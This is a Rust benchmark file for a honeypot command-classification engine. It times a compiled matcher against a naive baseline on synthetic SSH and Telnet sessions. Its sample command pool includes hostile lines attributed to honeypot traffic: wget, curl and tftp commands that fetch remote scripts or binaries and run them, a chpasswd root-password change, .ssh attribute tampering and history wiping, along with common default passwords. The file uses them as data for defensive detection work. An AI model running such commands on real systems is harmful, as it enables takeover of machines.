//! Classification throughput: sessions of one login and 20 commands against the default
//! catalog, compiled matcher vs the naive one-primitive-at-a-time baseline, in the same run.
//!
//! `cargo bench -p sikker-engine --bench classify` (add `-- --quick` for a shorter run).
//! After Criterion's own report it prints sessions/s for both and their ratio, measured on one
//! core (the benchmark is single-threaded). `classify` keeps a per-thread cache of what each
//! command line matched; the corpus repeats lines across sessions as real bot traffic does, so
//! the cold figure (`classify_uncached`, every line split and matched afresh) is printed beside.

use criterion::{criterion_group, Criterion, Throughput};
use sikker_engine::Engine;
use sikker_event::{Auth, AuthMethod, Event, EventData, Protocol};
use std::hint::black_box;
use std::time::{Duration, Instant};
use uuid::Uuid;

const COMMANDS_PER_SESSION: usize = 20;
const SESSIONS: usize = 512;

/// Commands seen in real honeypot sessions, matched and unmatched.
const POOL: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "/bin/busybox ECCHI",
    "enable",
    "system",
    "shell",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "top",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "echo \"root:lLPt9RKLVNM4\"|chpasswd|bash",
    "curl -fsSL http://203.0.113.7/init.sh | sh",
    "nvidia-smi -q | grep \"Product Name\"",
    "history -c; unset HISTFILE",
    "tar xzf x.tgz && cd x && ./configure && make",
    "export PATH=$PATH:/usr/local/bin",
    "ps aux | grep -v grep | grep xmrig",
    "echo ok",
    "cat /etc/os-release",
    "ifconfig; ip addr",
    "sh -c 'cd /var/run && busybox tftp -g -r mips 203.0.113.9 && chmod +x mips && ./mips'",
    "vim /etc/hosts",
    "apt-get update -y",
    "python3 -V",
];

fn sessions() -> Vec<Vec<Event>> {
    let ip = "198.51.100.23".parse().expect("literal address");
    // A fixed linear congruential sequence: the same corpus on every run.
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move || {
        x = x
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (x >> 33) as usize
    };
    (0..SESSIONS)
        .map(|i| {
            let session = Uuid::from_u128(i as u128 + 1);
            let protocol = if i % 3 == 0 {
                Protocol::Telnet
            } else {
                Protocol::Ssh
            };
            let mut events = vec![Event::new(
                "bench",
                session,
                protocol,
                ip,
                40000,
                22,
                EventData::Auth(Auth {
                    method: AuthMethod::Password,
                    username: "root".into(),
                    password: Some(["admin", "xc3511", "123456", "root"][i % 4].into()),
                    key_type: None,
                    key_fingerprint: None,
                    success: true,
                }),
            )];
            for _ in 0..COMMANDS_PER_SESSION {
                let line = POOL[next() % POOL.len()];
                events.push(Event::new(
                    "bench",
                    session,
                    protocol,
                    ip,
                    40000,
                    22,
                    EventData::Command { line: line.into() },
                ));
            }
            events
        })
        .collect()
}

fn bench(c: &mut Criterion) {
    let engine = Engine::builtin();
    let corpus = sessions();
    let mut group = c.benchmark_group("classify");
    group.throughput(Throughput::Elements(corpus.len() as u64));
    group.bench_function("compiled", |b| {
        b.iter(|| {
            for s in &corpus {
                black_box(engine.classify(black_box(s)));
            }
        })
    });
    group.bench_function("compiled_uncached", |b| {
        b.iter(|| {
            for s in &corpus {
                black_box(engine.classify_uncached(black_box(s)));
            }
        })
    });
    group.bench_function("naive", |b| {
        b.iter(|| {
            for s in &corpus {
                black_box(engine.classify_naive(black_box(s)));
            }
        })
    });
    group.finish();
}

/// CPU seconds this process has used (user + system), from /proc; `None` off Linux. On a
/// shared machine wall time undercounts what one core does, so both are printed.
fn cpu_seconds() -> Option<f64> {
    let stat = std::fs::read_to_string("/proc/self/stat").ok()?;
    // Fields after the parenthesised command name; utime and stime are the 12th and 13th.
    let rest = stat.rsplit_once(')')?.1;
    let f: Vec<&str> = rest.split_whitespace().collect();
    let ticks: f64 = f.get(11)?.parse::<f64>().ok()? + f.get(12)?.parse::<f64>().ok()?;
    Some(ticks / 100.0)
}

/// Sessions per wall-clock second and per CPU second over at least `budget` of wall time.
fn rate(budget: Duration, corpus: &[Vec<Event>], f: &dyn Fn(&[Event])) -> (f64, Option<f64>) {
    let cpu0 = cpu_seconds();
    let start = Instant::now();
    let mut done = 0usize;
    while start.elapsed() < budget {
        for s in corpus {
            f(s);
        }
        done += corpus.len();
    }
    let wall = start.elapsed().as_secs_f64();
    let cpu = match (cpu0, cpu_seconds()) {
        (Some(a), Some(b)) if b > a => Some(done as f64 / (b - a)),
        _ => None,
    };
    (done as f64 / wall, cpu)
}

fn summary() {
    let engine = Engine::builtin();
    let corpus = sessions();
    let agree = corpus.iter().all(|s| {
        let naive = engine.classify_naive(s);
        engine.classify(s) == naive && engine.classify_uncached(s) == naive
    });
    let classified = corpus
        .iter()
        .filter(|s| engine.classify(s).outcome.behavior().is_some())
        .count();
    let budget = Duration::from_secs(3);
    let compiled = rate(budget, &corpus, &|s| {
        black_box(engine.classify(black_box(s)));
    });
    let cold = rate(budget, &corpus, &|s| {
        black_box(engine.classify_uncached(black_box(s)));
    });
    let naive = rate(budget, &corpus, &|s| {
        black_box(engine.classify_naive(black_box(s)));
    });
    let cat = engine.catalog();
    println!();
    println!(
        "catalog: {} primitives, {} behaviors; corpus: {} sessions x (1 login + {} commands), {} classified to a behavior, compiled == naive: {}",
        cat.primitives.len(),
        cat.behaviors.len(),
        corpus.len(),
        COMMANDS_PER_SESSION,
        classified,
        agree
    );
    let show = |r: Option<f64>| r.map_or("n/a".to_string(), |r| format!("{r:.0}"));
    println!("                  sessions/s (wall)   sessions/s (per CPU second, one thread)");
    let ratio = |a: (f64, Option<f64>)| {
        let cpu = match (a.1, naive.1) {
            (Some(c), Some(n)) => format!("{:.1}", c / n),
            _ => "n/a".into(),
        };
        format!("{:>16.1}x   {:>16}x", a.0 / naive.0, cpu)
    };
    println!(
        "compiled matcher: {:>17.0}   {:>17}   (line cache warm: lines recur across sessions)",
        compiled.0,
        show(compiled.1)
    );
    println!(
        "compiled, cold:   {:>17.0}   {:>17}   (no line cache: every line matched afresh)",
        cold.0,
        show(cold.1)
    );
    println!(
        "naive baseline:   {:>17.0}   {:>17}   (one primitive at a time)",
        naive.0,
        show(naive.1)
    );
    println!("ratio, compiled:  {}", ratio(compiled));
    println!("ratio, cold:      {}", ratio(cold));
}

criterion_group! {
    name = benches;
    config = Criterion::default()
        .sample_size(20)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(3));
    targets = bench
}

fn main() {
    benches();
    Criterion::default().configure_from_args().final_summary();
    summary();
}
